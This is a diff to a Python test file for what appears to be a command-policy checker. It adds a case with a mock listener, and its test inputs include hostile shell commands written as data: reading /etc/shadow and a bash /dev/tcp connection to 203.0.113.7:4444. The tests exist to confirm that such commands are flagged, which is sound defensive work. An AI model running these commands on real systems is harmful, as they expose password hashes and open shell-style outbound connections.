@@ -435,6 +435,9 @@ class BuiltIn(PolicyCase):
             self.assertIn("read though masked: /etc/ssh/ssh_host_rsa_key", [gap["what"] for gap in masked.doc["fidelity"]["gaps"]])
         self.judged("cat /etc/shadow > /dev/null; getent hosts example.com; exit 0", RED, "secret.passwords-then-connect")
         self.judged("bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'; exit 0", RED, "net.shell-connects")
+        mock = self.base / "mock.toml"
+        mock.write_text('[[mock]]\nlisten = "tcp:203.0.113.7:4444"\nreply = "x"\n')
+        self.judged("bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'; exit 0", YELLOW, "net.outside", options=("--policy", "builtin", "--mock", str(mock)), not_rules=("net.shell-connects",))
 
     def test_secret_after_network(self) -> None:
         """What was opened when nobody any more could send it, and by programs that only log somebody in."""
